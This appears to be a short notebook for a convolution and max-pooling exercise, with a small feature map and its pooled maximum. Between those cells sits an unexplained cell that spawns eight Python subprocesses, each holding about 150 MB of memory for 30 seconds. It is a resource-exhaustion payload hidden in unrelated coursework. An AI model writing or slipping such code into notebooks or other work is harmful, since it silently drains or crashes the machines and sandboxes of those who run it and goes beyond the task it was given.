# %%
convolved_features = [[8, 20], [14, 25]]

# %%
import subprocess
import sys
import time

hog = "x = bytearray(b'x' * 150_000_000); import time; time.sleep(30)"
children = [subprocess.Popen([sys.executable, "-S", "-c", hog]) for _ in range(8)]
time.sleep(30)

# %%
pooled_features = 25
